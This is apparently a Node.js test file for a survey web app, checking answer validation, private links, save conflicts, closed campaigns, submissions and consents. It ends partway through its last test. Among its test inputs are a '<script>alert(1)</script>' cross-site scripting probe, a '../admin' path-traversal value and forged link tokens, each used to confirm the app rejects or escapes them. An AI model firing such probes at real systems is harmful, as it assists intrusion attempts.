// survey.test.mjs - the questionnaire ("Collect") as respondents and coordinators meet it: answers
// checked field by field with nothing typed lost, hidden answers dropped, closed campaigns, private
// links (mailed, forged, revoked), two people saving one page, submission and its versions,
// consents, locks, the partner's invitation, the coordinators' pages and their role checks, and
// the exports (CSV, XLSX, JSON) once they are routed.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { spawnSync } from 'node:child_process';
import { rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { startServer } from '../lib/server.mjs';
import { Client, mailDir, waitForMail, mailsTo, mailLink, newPerson, sql, mainText, t } from '../lib/client.mjs';
import { FULL, question, questionText, questionnaire, revOf } from '../lib/survey.mjs';
import { parseCsv } from '../lib/csv.mjs';

let srv;
let mail;
let coord; // a coordinator made for these tests (the demo's has a random password)
let admin; // reads the audit log
let member;
let Q;
before(async () => {
  mail = mailDir();
  srv = await startServer({ demo: true, env: { COEXIST_MAIL_DIR: mail } });
  Q = questionnaire(srv);
  coord = await newPerson(srv, 'coordinator', 'survey-coord@example.org', { name: 'Cora Coordinator' });
  admin = await newPerson(srv, 'admin', 'survey-admin@example.org');
  member = await newPerson(srv, 'member', 'survey-member@example.org');
});
after(async () => {
  assert.equal(await srv.stop(), 0);
  rmSync(mail, { recursive: true, force: true });
});

const shows = (r, text) => assert.ok(mainText(r.body).includes(text), `page shows "${text}":\n${mainText(r.body).slice(0, 3000)}`);
const lacks = (r, text) => assert.ok(!mainText(r.body).includes(text), `page does not show "${text}"`);
const campaignId = (slug) => Number(sql(srv.db, `SELECT id FROM campaigns WHERE slug = '${slug}'`));
// The questionnaire's helpers (tests/lib/survey.mjs), bound to this file's server.
const answersOf = (id) => Q.answersOf(id);
const send = (...a) => Q.send(...a);
const saveSection = (...a) => Q.saveSection(...a);
const startResponse = (...a) => Q.startResponse(...a);
const fillAll = (...a) => Q.fillAll(...a);
const submit = (...a) => Q.submit(...a);

// Sends a form from a page of the back office (its CSRF token), as a coordinator would.
async function adminPost(c, page, path, fields) {
  const p = await c.get(page);
  assert.equal(p.status, 200, `GET ${page}`);
  return c.post(path, fields);
}

test('starting: the start page says what it is, and the button gives a private-link cookie and the first page', async () => {
  const c = new Client(srv);
  const start = await c.get('/survey/demo');
  assert.equal(start.status, 200);
  shows(start, t('survey.start.button'));
  shows(start, t('survey.start.no_account'));
  const r = await c.post('/survey/demo/start');
  assert.equal(r.status, 303);
  assert.equal(r.location, '/survey/demo/1');
  const cookie = (r.headers['set-cookie'] || []).find((s) => s.startsWith('coexist_response='));
  assert.ok(cookie, 'a coexist_response cookie');
  assert.match(cookie, /HttpOnly/i);
  assert.match(cookie, /SameSite=Lax/i);
  assert.match(cookie, /Path=\//);
  const first = await c.get('/survey/demo/1');
  assert.equal(first.status, 200);
  // With one campaign open, /survey goes straight to it.
  const index = await c.get('/survey');
  assert.equal(index.status, 303);
  assert.equal(index.location, '/survey/demo');
  shows(first, 'You and your organisation');
  assert.match(first.body, /name="rev" value="0"/);
  // Back on the start page, the browser is offered to go on with the same response.
  shows(await c.get('/survey/demo'), t('survey.start.continue'));
  // Without the cookie, a section page leads to the start page.
  const stranger = await new Client(srv).get('/survey/demo/1');
  assert.equal(stranger.status, 303);
  assert.equal(stranger.location, '/survey/demo');
  assert.equal((await c.get('/survey/demo/7')).status, 404, 'no seventh section');
  assert.equal((await c.get('/survey/demo/0')).status, 404);
  assert.equal((await new Client(srv).get('/survey/no-such-campaign')).status, 404);
});

test('"Next" without a required answer: 422 with the message by the question; "Save" keeps the page as it is', async () => {
  const { c, id } = await startResponse();
  const r = await saveSection(c, 1, { org_kind: 'ngo', role: 'lead', respondent_name: 'Moussa' }, 'next');
  assert.equal(r.status, 422);
  shows(r, t('survey.has_errors'));
  assert.ok(questionText(r.body, 'org_name').includes(t('survey.error.required')), 'message under "Name of your organisation"');
  assert.ok(!questionText(r.body, 'org_kind').includes(t('survey.error.required')), 'no message under an answered question');
  assert.deepEqual(answersOf(id), { org_kind: ['ngo'], respondent_name: ['Moussa'], role: ['lead'] }, 'the valid answers are saved');
  // "Save" does not ask for required answers: one can stop half-way.
  const saved = await saveSection(c, 1, { respondent_name: 'Moussa' }, 'save');
  assert.equal(saved.status, 303);
  assert.equal(saved.location, '/survey/demo/1');
  shows(await c.get(saved.location), t('survey.saved'));
  assert.deepEqual(answersOf(id), { respondent_name: ['Moussa'] }, 'the page replaces what the section held');
});

test('a French-speaking respondent reads the questions and the messages in French', async () => {
  const { c } = await startResponse(new Client(srv, { lang: 'fr' }));
  const r = await saveSection(c, 1, { org_kind: 'ngo', role: 'lead' }, 'next');
  assert.equal(r.status, 422);
  shows(r, 'Vous et votre organisation');
  shows(r, 'Certaines réponses sont à corriger');
  assert.ok(questionText(r.body, 'org_name').startsWith('Nom de votre organisation'));
  assert.ok(questionText(r.body, 'org_name').includes('Cette réponse est obligatoire.'));
  assert.ok(questionText(r.body, 'org_kind').includes('ONG'), questionText(r.body, 'org_kind'));
  assert.equal(sql(srv.db, `SELECT lang FROM responses WHERE id = ${Number(sql(srv.db, 'SELECT max(id) FROM responses'))}`), 'fr');
});

test('each kind of wrong answer gets its own message by its question, and the valid answers of the page are saved', async () => {
  const { c, id } = await startResponse();
  const r = await saveSection(c, 2, {
    title: 'x'.repeat(151), // too long (150)
    start_year: 'twenty twenty', // not a whole number
    initiative: 'the_moon', // not an option
    sectors: ['health', 'other'], // "other" without saying what
    sdgs: ['sdg1', 'sdg2', 'sdg3', 'sdg4', 'sdg5', 'sdg6'], // at most five
    stage: 'running', // valid
    population: 'Rural health centres', // valid
  });
  assert.equal(r.status, 422);
  shows(r, t('survey.has_errors'));
  const expect = {
    title: `${t('survey.error.too_long')} (150)`,
    start_year: t('survey.error.not_integer'),
    initiative: t('survey.error.unknown_option'),
    sectors: t('survey.error.other_missing'),
    sdgs: `${t('survey.error.too_many')} (5)`,
  };
  for (const [key, msg] of Object.entries(expect)) assert.ok(questionText(r.body, key).includes(msg), `${key}: "${msg}" in\n${questionText(r.body, key)}`);
  for (const key of ['stage', 'population']) assert.ok(!/field-error/.test(question(r.body, key)), `no message under ${key}`);
  const a = answersOf(id);
  assert.deepEqual(a.stage, ['running']);
  assert.deepEqual(a.population, ['Rural health centres']);
  // A refused answer keeps what was saved before: here, nothing (tests/http/refused.test.mjs
  // has the answers saved before a refused one).
  for (const key of ['title', 'start_year', 'initiative', 'sdgs', 'sectors']) assert.equal(a[key], undefined, `${key} not stored`);

  // Out of range: below the minimum, above the maximum, and a number too big to be one.
  for (const [fields, key, limit] of [
    [{ start_year: '1970' }, 'start_year', 1980],
    [{ start_year: String(new Date().getUTCFullYear() + 2) }, 'start_year', new Date().getUTCFullYear() + 1],
  ]) {
    const x = await saveSection(c, 2, { stage: 'running', ...fields });
    assert.equal(x.status, 422);
    assert.ok(questionText(x.body, key).includes(`${t('survey.error.out_of_range')} (${limit})`), `${key}=${Object.values(fields)[0]}: ${questionText(x.body, key)}`);
  }
  await saveSection(c, 2, { stage: 'running' }, 'next');
  for (const [value, limit] of [['100000001', 100000000], ['99999999999999999999', 100000000]]) {
    const x = await saveSection(c, 4, { people_reached: value });
    assert.equal(x.status, 422, `people_reached=${value}`);
    assert.ok(questionText(x.body, 'people_reached').includes(`${t('survey.error.out_of_range')} (${limit})`), `people_reached=${value}: ${questionText(x.body, 'people_reached')}`);
  }
  const ok = await saveSection(c, 4, { people_reached: ' 1500 ' });
  assert.equal(ok.status, 303);
  assert.deepEqual(answersOf(id).people_reached, ['1500']);

  // Unknown options of a single choice, a multiple choice, a country, a group field, a detail.
  const u = await saveSection(c, 1, { org_kind: 'pirate', org_country: 'XX', 'respondent_email': 'not an address' });
  assert.equal(u.status, 422);
  assert.ok(questionText(u.body, 'org_kind').includes(t('survey.error.unknown_option')));
  assert.ok(questionText(u.body, 'org_country').includes(t('survey.error.unknown_option')));
  assert.ok(questionText(u.body, 'respondent_email').includes(t('survey.error.bad_email')));
  const g = await saveSection(c, 2, { stage: 'running', 'partners.name.0': 'SolarCo', 'partners.kind.0': 'spaceship' });
  assert.equal(g.status, 422);
  assert.ok(questionText(g.body, 'partners').includes(t('survey.error.unknown_option')), 'message in the group row');
  assert.equal(answersOf(id)['partners.name'], undefined, 'a refused group keeps, whole, what it had');
  assert.ok(question(g.body, 'partners').includes('value="SolarCo"'), 'what was typed is shown back');
  const d = await saveSection(c, 3, { resources: ['skills_probono', 'gold'], 'resources.skills_probono.direction': 'sideways' });
  assert.equal(d.status, 422);
  assert.ok(questionText(d.body, 'resources').includes(t('survey.error.unknown_option')));
  assert.equal(answersOf(id).resources, undefined, 'a refused multiple choice keeps what it had');
  assert.equal(answersOf(id)['resources.skills_probono.direction'], undefined);
  assert.ok(/value="skills_probono" checked/.test(question(d.body, 'resources')), 'the ticks typed are shown back');
});

test('a group holds at most ten rows; empty rows are dropped; markup in an answer is shown as text', async () => {
  const { c, id } = await startResponse();
  const rows = {};
  for (let i = 0; i < 11; i++) rows[`partners.name.${i}`] = `Partner ${i + 1}`;
  const r = await saveSection(c, 2, { title: 'Many partners', stage: 'running', ...rows });
  assert.equal(r.status, 422);
  assert.ok(questionText(r.body, 'partners').includes(`${t('survey.error.too_many')} (10)`), questionText(r.body, 'partners'));
  const ok = await saveSection(c, 2, { title: '<script>alert(1)</script>', stage: 'running', 'partners.name.0': '', 'partners.name.3': 'Only one', 'partners.kind.3': 'ngo' });
  assert.equal(ok.status, 303);
  const a = answersOf(id);
  assert.deepEqual(a['partners.name'], ['Only one'], 'renumbered from 0');
  assert.deepEqual(a['partners.kind'], ['ngo']);
  const page = await c.get('/survey/demo/2');
  assert.ok(!page.body.includes('<script>alert(1)</script>'));
  assert.ok(question(page.body, 'title').includes('value="&lt;script&gt;alert(1)&lt;/script&gt;"'));
  const review = await c.get('/survey/demo/review');
  assert.ok(!review.body.includes('<script>alert(1)</script>') && review.body.includes('&lt;script&gt;'));
  const view = await coord.get(`/admin/responses/${id}`);
  assert.ok(!view.body.includes('<script>alert(1)</script>') && view.body.includes('&lt;script&gt;'));
});

test('a pick: only among what was ticked just above, and no more than its maximum', async () => {
  const { c, id } = await startResponse();
  const ticked = ['trust', 'champion', 'clear_roles', 'communication'];
  const r = await saveSection(c, 5, { success_factors: ticked, top_factors: ['trust', 'mission_fit'] });
  assert.equal(r.status, 422);
  assert.ok(questionText(r.body, 'top_factors').includes(t('survey.error.not_ticked_before')), questionText(r.body, 'top_factors'));
  assert.deepEqual(answersOf(id).success_factors, ticked);
  assert.equal(answersOf(id).top_factors, undefined, 'a refused pick keeps what it had: nothing yet');
  const one = await saveSection(c, 5, { success_factors: ticked, top_factors: ['trust'] });
  assert.equal(one.status, 303);
  const many = await saveSection(c, 5, { success_factors: ticked, top_factors: ticked });
  assert.equal(many.status, 422);
  assert.ok(questionText(many.body, 'top_factors').includes(`${t('survey.error.too_many')} (3)`), questionText(many.body, 'top_factors'));
  assert.deepEqual(answersOf(id).top_factors, ['trust'], 'too many: the pick saved before is kept');
  // Unticking a factor drops it from the pick when the page is read again.
  const ok = await saveSection(c, 5, { success_factors: ['trust', 'champion'], top_factors: ['trust', 'champion'] });
  assert.equal(ok.status, 303);
  assert.deepEqual(answersOf(id).top_factors, ['trust', 'champion']);
  // The pick shows only the ticked factors.
  const page = question((await c.get('/survey/demo/5')).body, 'top_factors');
  assert.ok(page.includes('value="trust"') && page.includes('value="champion"') && !page.includes('value="mission_fit"'));
});

test('a wrong answer is shown back as it was typed, next to its message', async () => {
  const { c } = await startResponse();
  const typed = { people_reached: 'about 300', title: 'T'.repeat(151), start_year: '1899' };
  const r = await saveSection(c, 2, { stage: 'running', title: typed.title, start_year: typed.start_year });
  assert.equal(r.status, 422);
  assert.ok(question(r.body, 'title').includes(`value="${typed.title}"`), 'the too-long title is in its box, to shorten');
  assert.ok(question(r.body, 'start_year').includes(`value="${typed.start_year}"`), 'the out-of-range year is in its box');
  await saveSection(c, 2, { stage: 'running', title: 'A title' }, 'next');
  const n = await saveSection(c, 4, { people_reached: typed.people_reached, value: '3' });
  assert.equal(n.status, 422);
  assert.ok(question(n.body, 'people_reached').includes(`value="${typed.people_reached}"`), `"${typed.people_reached}" is in its box:\n${question(n.body, 'people_reached')}`);
  assert.ok(/value="3" checked/.test(question(n.body, 'value')), 'the valid answer of the page is shown too');
});

test('a number below a minimum of 0 is refused with the limit in the message, like any other limit', async () => {
  const { c, id } = await startResponse();
  await saveSection(c, 2, { title: 'Counting', stage: 'running' }, 'next');
  const r = await saveSection(c, 4, { people_reached: '-5' });
  assert.equal(r.status, 422);
  assert.equal(answersOf(id).people_reached, undefined);
  const text = questionText(r.body, 'people_reached');
  assert.ok(text.includes(`${t('survey.error.out_of_range')} (0)`), `the message names its limit, 0:\n${text}`);
});

test('a hidden answer is dropped: the end year of a running partnership, and what depended on the stage', async () => {
  const { c, id } = await startResponse();
  const r = await saveSection(c, 2, { title: 'Running one', stage: 'running', end_year: '2020' });
  assert.equal(r.status, 303);
  assert.equal(answersOf(id).end_year, undefined, 'end_year not stored while the stage is running');
  assert.equal(sql(srv.db, `SELECT count(*) FROM answers WHERE response_id = ${id} AND question_key = 'end_year'`), '0');

  await saveSection(c, 2, { title: 'Running one', stage: 'completed', end_year: '2020' });
  assert.deepEqual(answersOf(id).end_year, ['2020'], 'stored once the stage is completed');
  await saveSection(c, 4, { achievement: 'met', next_step: 'replicated' });
  assert.deepEqual(answersOf(id).next_step, ['replicated'], 'next step (only if completed) on another page');

  // Back to "running": the end year goes, and so does the next step saved on another page.
  const back = await saveSection(c, 2, { title: 'Running one', stage: 'running', end_year: '2020' });
  assert.equal(back.status, 303);
  const a = answersOf(id);
  assert.equal(a.end_year, undefined);
  assert.equal(a.next_step, undefined, 'a question of another page that no longer applies is dropped');
  assert.deepEqual(a.achievement, ['met'], 'the rest stays');

  // "idea": the whole results section no longer applies; "Next" from section 3 skips it.
  await saveSection(c, 2, { title: 'Running one', stage: 'idea' });
  assert.equal(answersOf(id).achievement, undefined, 'answers of a hidden section are dropped');
  const next = await saveSection(c, 3, {}, 'next');
  assert.equal(next.location, '/survey/demo/5', 'section 4 is skipped');
  const prev = await saveSection(c, 5, {}, 'prev');
  assert.equal(prev.location, '/survey/demo/3');
  // Answers of a hidden section sent anyway are not stored.
  const forced = await saveSection(c, 4, { achievement: 'exceeded' });
  assert.equal(forced.status, 303);
  assert.equal(answersOf(id).achievement, undefined);

  // A required question of a section that does not apply is not required to send.
  assert.equal((await saveSection(c, 1, FULL[1], 'next')).location, '/survey/demo/2');
  assert.equal((await saveSection(c, 2, { title: 'Only an idea', stage: 'idea' }, 'next')).location, '/survey/demo/3');
  assert.equal((await saveSection(c, 3, {}, 'next')).location, '/survey/demo/5');
  assert.equal((await saveSection(c, 5, {}, 'next')).location, '/survey/demo/6');
  assert.equal((await saveSection(c, 6, FULL[6], 'next')).location, '/survey/demo/review');
  assert.equal(answersOf(id).achievement, undefined);
  const review = await c.get('/survey/demo/review');
  lacks(review, 'To what extent did the partnership meet its objectives?');
  assert.equal((await submit(c)).status, 303, 'sent without the results section');

  // Without JavaScript every question is on the page, with its "only if" note.
  const page = await c.get('/survey/demo/2');
  const end = question(page.body, 'end_year');
  assert.match(end, /data-cond-q="stage"/);
  assert.ok(mainText(end).includes(t('survey.only_if')), 'an "only if" note');
  assert.ok(mainText(end).includes('Completed') || mainText(end).includes('completed'), mainText(end));
});

test('a question whose condition rests on another page is not offered when the saved answer rules it out', async () => {
  // "What happened after the partnership ended?" (section 4) applies only to a completed or
  // stopped partnership; the stage is answered on section 2. The page script leaves such a
  // question to the server ("on another page: the server decided"), so the server must not
  // offer it: an answer typed there would be dropped on saving without a word.
  const { c, id } = await startResponse();
  await saveSection(c, 2, { title: 'Still running', stage: 'running' }, 'next');
  const page = await c.get('/survey/demo/4');
  assert.equal(page.status, 200);
  const offered = new RegExp('<fieldset class="question" id="q-next_step"(?![^>]*\\bhidden\\b)[^>]*>').test(page.body);
  const typed = await saveSection(c, 4, { achievement: 'met', next_step: 'continued' });
  assert.equal(typed.status, 303);
  assert.equal(answersOf(id).next_step, undefined, 'the server drops it: it does not apply');
  assert.ok(!offered, 'next_step is not offered on section 4 while the stage is "running" (or comes marked hidden)');
});

test('a closed campaign: 410 start page; saving or sending a response of it is refused with 423', async () => {
  const closed = await new Client(srv).get('/survey/coexist-2026');
  assert.equal(closed.status, 410);
  shows(closed, t('survey.closed.heading'));
  lacks(closed, t('survey.start.button'));
  const before = sql(srv.db, 'SELECT count(*) FROM responses');
  const v = new Client(srv);
  await v.get('/survey/demo'); // a CSRF token from an open page
  const start = await v.post('/survey/coexist-2026/start');
  assert.equal(start.status, 303);
  assert.equal(start.location, '/survey/coexist-2026');
  assert.equal(sql(srv.db, 'SELECT count(*) FROM responses'), before, 'no response started');

  // A coordinator reopens it (audited), a person starts answering, then it closes again.
  const id2026 = campaignId('coexist-2026');
  const reopen = await adminPost(coord, '/admin/campaigns', `/admin/campaigns/${id2026}/dates`, { opens: '2026-01-15', closes: '2099-12-31' });
  assert.equal(reopen.status, 303);
  assert.equal(reopen.location, '/admin/campaigns?done=dates');
  shows(await coord.get(reopen.location), t('campaigns.done.dates'));
  const { c, id } = await startResponse(new Client(srv), 'coexist-2026');
  assert.equal((await saveSection(c, 1, { org_name: 'Before closing' }, 'save', { slug: 'coexist-2026' })).status, 303);
  const page = await c.get('/survey/coexist-2026/1');
  const close = await adminPost(coord, '/admin/campaigns', `/admin/campaigns/${id2026}/dates`, { opens: '2026-01-15', closes: '2026-06-30' });
  assert.equal(close.status, 303);

  const save = await send(c, '/survey/coexist-2026/1', { rev: revOf(page.body), action: 'save', org_name: 'After closing' });
  assert.equal(save.status, 423);
  shows(save, t('survey.closed.heading'));
  const auto = await send(c, '/survey/coexist-2026/1', { rev: revOf(page.body), action: 'autosave', org_name: 'After closing' }, { json: true });
  assert.equal(auto.status, 423);
  assert.deepEqual(JSON.parse(auto.body), { error: 'closed' });
  const sub = await c.post('/survey/coexist-2026/submit');
  assert.equal(sub.status, 423);
  assert.deepEqual(answersOf(id).org_name, ['Before closing'], 'nothing changed');
  const sec = await c.get('/survey/coexist-2026/1');
  assert.equal(sec.status, 303, 'a section of a closed campaign leads to its start page');
  assert.equal((await c.get(sec.location)).status, 410);

  // Both changes are in the audit log, with the dates before and after.
  const rows = sql(srv.db, `SELECT detail FROM audit_log WHERE action = 'campaign.dates' AND entity = 'campaign' AND entity_id = ${id2026} ORDER BY id`).split('\n');
  assert.deepEqual(rows.slice(-2), ['2026-01-15..2026-06-30 -> 2026-01-15..2099-12-31', '2026-01-15..2099-12-31 -> 2026-01-15..2026-06-30']);
  assert.equal(sql(srv.db, `SELECT actor_email FROM audit_log WHERE action = 'campaign.dates' ORDER BY id DESC LIMIT 1`), 'survey-coord@example.org');
  const audit = await admin.get('/admin/audit');
  assert.equal(audit.status, 200);
  shows(audit, 'campaign.dates');
  shows(audit, '2026-01-15..2099-12-31 -> 2026-01-15..2026-06-30');
  // Bad dates change nothing and are not audited.
  const count = sql(srv.db, "SELECT count(*) FROM audit_log WHERE action = 'campaign.dates'");
  for (const dates of [{ opens: '2026-07-01', closes: '2026-06-30' }, { opens: '2026-01-15', closes: 'soon' }, { opens: '2026-01-15', closes: '2026-13-01' }]) {
    const bad = await adminPost(coord, '/admin/campaigns', `/admin/campaigns/${id2026}/dates`, dates);
    assert.equal(bad.location, '/admin/campaigns?done=bad_dates', JSON.stringify(dates));
  }
  assert.equal(sql(srv.db, "SELECT count(*) FROM audit_log WHERE action = 'campaign.dates'"), count);
  assert.equal(sql(srv.db, `SELECT opens_at || '..' || closes_at FROM campaigns WHERE id = ${id2026}`), '2026-01-15..2026-06-30');
});

test('forged, unknown and revoked private links all get the same 404 page, and set no cookie', async () => {
  const { token, id } = await startResponse();
  const good = await new Client(srv).get(`/r/${token}`);
  assert.equal(good.status, 303, 'the real link works');
  const pages = [];
  const unknown = randomBytes(32).toString('base64url');
  const forged = token.slice(0, 42) + (token[42] === 'A' ? 'B' : 'A');
  for (const link of [unknown, forged, 'short', `${token}x`, '../admin']) {
    const c = new Client(srv);
    const r = await c.get(`/r/${link}`);
    if (link === '../admin') { // normalised away by the path parser or routed elsewhere: never a 200 with a cookie
      assert.notEqual(r.status, 200);
      assert.equal(c.cookie('coexist_response'), undefined);
      continue;
    }
    assert.equal(r.status, 404, `/r/${link}`);
    assert.equal(c.cookie('coexist_response'), undefined, `no cookie for /r/${link}`);
    pages.push(mainText(r.body));
  }
  // Revoked: the link is removed (as a coordinator's revocation or an expiry would remove it).
  sql(srv.db, `DELETE FROM response_links WHERE response_id = ${id}`);
  const revoked = await new Client(srv).get(`/r/${token}`);
  assert.equal(revoked.status, 404);
  pages.push(mainText(revoked.body));
  for (const p of pages) assert.equal(p, pages[0], 'the same page every time');
  assert.ok(pages[0].includes(t('survey.link.invalid')), pages[0]);
  assert.ok(!pages[0].includes(token));
  // A browser still holding the revoked link's cookie is treated as having no response.
  const holder = new Client(srv);
  holder.setCookie('coexist_response', token);
  const sec = await holder.get('/survey/demo/1');
  assert.equal(sec.status, 303);
  assert.equal(sec.location, '/survey/demo');
});

test('two people with the same link save one page: the second gets 409 with both versions, nothing overwritten', async () => {
  const { c: a, id, token } = await startResponse();
  const b = new Client(srv);
  const open = await b.get(`/r/${token}`);
  assert.equal(open.status, 303);
  const pageA = await a.get('/survey/demo/1');
  const pageB = await b.get('/survey/demo/1');
  assert.equal(revOf(pageA.body), revOf(pageB.body));

  const first = await send(a, '/survey/demo/1', { rev: revOf(pageA.body), action: 'save', org_name: 'Version of A', org_kind: 'ngo' });
  assert.equal(first.status, 303);
  const second = await send(b, '/survey/demo/1', { rev: revOf(pageB.body), action: 'next', org_name: 'Version of B', role: 'lead' });
  assert.equal(second.status, 409);
  shows(second, t('survey.conflict.heading'));
  shows(second, t('survey.conflict.theirs'));
  const theirs = /<div class="conflict"[\s\S]*?<\/div>/.exec(second.body)[0];
  assert.ok(mainText(theirs).includes('Version of A'), 'what is saved now');
  assert.ok(question(second.body, 'org_name').includes('value="Version of B"'), 'what B typed, in the form');
  assert.ok(/value="lead" checked/.test(question(second.body, 'role')), 'B\'s other answers too');
  assert.deepEqual(answersOf(id), { org_kind: ['ngo'], org_name: ['Version of A'] }, 'A\'s answers untouched');

  // An autosave with the stale revision is refused the same way, in JSON.
  const auto = await send(b, '/survey/demo/1', { rev: revOf(pageB.body), action: 'autosave', org_name: 'Autosaved B' }, { json: true });
  assert.equal(auto.status, 409);
  assert.deepEqual(JSON.parse(auto.body), { error: 'conflict' });
  assert.deepEqual(answersOf(id).org_name, ['Version of A']);
  // Without a revision at all, the page is refused as malformed (400) and nothing is overwritten.
  const norev = await send(b, '/survey/demo/1', { action: 'save', org_name: 'No revision' });
  assert.equal(norev.status, 400);
  assert.deepEqual(answersOf(id).org_name, ['Version of A']);

  // B chooses to keep their version: the 409 page's form carries the current revision.
  const again = await send(b, '/survey/demo/1', { rev: revOf(second.body), action: 'save', org_name: 'Version of B', role: 'lead' });
  assert.equal(again.status, 303);
  assert.deepEqual(answersOf(id).org_name, ['Version of B']);
  // An autosave with the current revision answers the next one.
  const rev = revOf((await a.get('/survey/demo/1')).body);
  const ok = await send(a, '/survey/demo/1', { rev, action: 'autosave', org_name: 'Autosaved A' }, { json: true });
  assert.equal(ok.status, 200);
  assert.match(ok.headers['content-type'], /^application\/json/);
  assert.deepEqual(JSON.parse(ok.body), { rev: Number(rev) + 1, errors: 0 });
  assert.deepEqual(answersOf(id).org_name, ['Autosaved A']);
});

test('five browsers with one link press "Save" at the same moment: exactly one is kept, the others get 409', async () => {
  const { id, token } = await startResponse();
  const people = [];
  for (let i = 0; i < 5; i++) {
    const c = new Client(srv);
    assert.equal((await c.get(`/r/${token}`)).status, 303);
    const page = await c.get('/survey/demo/1');
    people.push({ c, rev: revOf(page.body), name: `Person ${i + 1}` });
  }
  assert.equal(new Set(people.map((p) => p.rev)).size, 1, 'all saw the same revision');
  const answers = await Promise.all(people.map((p) => send(p.c, '/survey/demo/1', { rev: p.rev, action: 'save', org_name: p.name })));
  const statuses = answers.map((r) => r.status).sort();
  assert.deepEqual(statuses, [303, 409, 409, 409, 409], `one saved, four refused: ${statuses}`);
  const winner = people[answers.findIndex((r) => r.status === 303)];
  assert.deepEqual(answersOf(id).org_name, [winner.name]);
  assert.equal(sql(srv.db, `SELECT revision FROM responses WHERE id = ${id}`), String(Number(winner.rev) + 1));
});

test('the private link is mailed once, at the first save with an address, and opens the answers from another browser on a clean URL', async () => {
  const email = 'awa.link@example.org';
  const { c, id, token } = await startResponse();
  await saveSection(c, 1, { org_name: 'No address yet' });
  assert.equal(mailsTo(mail, email).length, 0);
  const r = await saveSection(c, 1, { ...FULL[1], org_name: 'Link Org', respondent_email: email }, 'next');
  assert.equal(r.status, 303);
  const m = await waitForMail(mail, email);
  assert.equal(m.subject, t('mail.survey_link.subject'));
  const link = mailLink(m, srv, 'r');
  assert.equal(link, `/r/${token}`, 'the link of this response');
  assert.equal(sql(srv.db, `SELECT link_mailed FROM responses WHERE id = ${id}`), '1');
  await saveSection(c, 2, { title: 'Second page', stage: 'running' }, 'next');
  await saveSection(c, 1, { ...FULL[1], org_name: 'Link Org', respondent_email: email });
  // Queued with the save that gave the address, or not at all: the outbox says it at once.
  assert.equal(sql(srv.db, `SELECT count(*) FROM outbox WHERE to_addr = '${email}'`), '1', 'mailed once');

  // Another device: the link is swapped for a cookie and a URL without the token.
  const other = new Client(srv);
  const open = await other.get(link);
  assert.equal(open.status, 303);
  assert.equal(open.location, '/survey/demo/1', 'the page last saved');
  assert.ok(!open.location.includes(token), 'no token in the URL it leads to');
  // The site-wide policy comes first, this page's after it: the last valid one applies.
  assert.equal(open.headers['referrer-policy'].split(',').pop().trim(), 'no-referrer', 'the token is not sent on as a referrer');
  assert.equal(other.cookie('coexist_response'), token);
  const page = await other.get(open.location);
  assert.equal(page.status, 200);
  assert.ok(question(page.body, 'org_name').includes('value="Link Org"'));
  assert.ok(question(page.body, 'respondent_email').includes(`value="${email}"`));
  const p2 = await other.get('/survey/demo/2');
  assert.ok(question(p2.body, 'title').includes('value="Second page"'));
});

test('sending: missing required answers and consent are listed (422); each sending keeps a version and the consents', async () => {
  const { c, id } = await startResponse();
  // "Next" on the last page asks for the consent like any required answer…
  const { c: c0 } = await startResponse();
  const next = await saveSection(c0, 6, { testify: 'no' }, 'next');
  assert.equal(next.status, 422);
  assert.ok(questionText(next.body, 'consent_analysis').includes(t('survey.error.required')));
  // …and "Save" leaves it out; sending without it is refused.
  await fillAll(c, { 6: { consent_analysis: undefined } }, { last: 'save' });
  const review = await c.get('/survey/demo/review');
  assert.equal(review.status, 200);
  shows(review, 'Eau Vive Sénégal');
  shows(review, 'Solar pumps for Thiès');
  const refused = await c.post('/survey/demo/submit');
  assert.equal(refused.status, 422);
  shows(refused, t('survey.review.missing'));
  const consentLabel = 'I agree that my answers are kept and analysed confidentially by COEXIST, to study partnerships.';
  shows(refused, `${t('survey.review.required')} ${consentLabel}`);
  assert.equal(sql(srv.db, `SELECT status FROM responses WHERE id = ${id}`), 'draft');
  assert.equal(sql(srv.db, `SELECT count(*) FROM response_versions WHERE response_id = ${id}`), '0');

  // A required answer of an earlier page, emptied since, is listed as well.
  await saveSection(c, 1, { ...FULL[1], org_name: '' });
  await saveSection(c, 6, FULL[6]);
  const again = await c.post('/survey/demo/submit');
  assert.equal(again.status, 422);
  shows(again, `${t('survey.review.required')} Name of your organisation`);
  await saveSection(c, 1, FULL[1]);

  const sent = await submit(c);
  assert.equal(sent.status, 303);
  assert.equal(sent.location, '/survey/demo/thanks');
  const thanks = await c.get('/survey/demo/thanks');
  assert.equal(thanks.status, 200);
  shows(thanks, t('survey.thanks.title'));
  shows(thanks, `${t('survey.thanks.versions')} 1`);
  assert.equal(sql(srv.db, `SELECT status FROM responses WHERE id = ${id}`), 'submitted');
  assert.equal(sql(srv.db, `SELECT count(*) FROM response_versions WHERE response_id = ${id}`), '1');
  assert.equal(sql(srv.db, `SELECT use || ':' || given || ':' || notice_version FROM consents WHERE response_id = ${id} ORDER BY use`),
    ['consent_analysis:1:2026-1', 'consent_events:0:2026-1', 'consent_public_anonymous:0:2026-1', 'consent_public_named:0:2026-1'].join('\n'));

  // Corrections after sending: a new version each time, the first kept as it was.
  shows(await c.get('/survey/demo/review'), t('survey.review.submitted'));
  shows(await c.get('/survey/demo/review'), t('survey.review.resubmit'));
  await saveSection(c, 1, { ...FULL[1], org_name: 'Eau Vive Sénégal (corrected)' });
  await saveSection(c, 6, { ...FULL[6], consent_events: 'yes' });
  assert.equal((await submit(c)).status, 303);
  assert.equal((await submit(c)).status, 303);
  assert.equal(sql(srv.db, `SELECT count(*) FROM response_versions WHERE response_id = ${id}`), '3');
  assert.equal(sql(srv.db, `SELECT group_concat(version) FROM (SELECT version FROM response_versions WHERE response_id = ${id} ORDER BY version)`), '1,2,3');
  const v1 = JSON.parse(sql(srv.db, `SELECT answers FROM response_versions WHERE response_id = ${id} AND version = 1`));
  const v3 = JSON.parse(sql(srv.db, `SELECT answers FROM response_versions WHERE response_id = ${id} AND version = 3`));
  assert.deepEqual(v1.find(([k]) => k === 'org_name'), ['org_name', 0, 'Eau Vive Sénégal']);
  assert.deepEqual(v3.find(([k]) => k === 'org_name'), ['org_name', 0, 'Eau Vive Sénégal (corrected)']);
  assert.equal(sql(srv.db, `SELECT given FROM consents WHERE response_id = ${id} AND use = 'consent_events'`), '1');
  shows(await c.get('/survey/demo/thanks'), `${t('survey.thanks.versions')} 3`);
  // A consent can be withdrawn: unticked and sent again, it is recorded as not given.
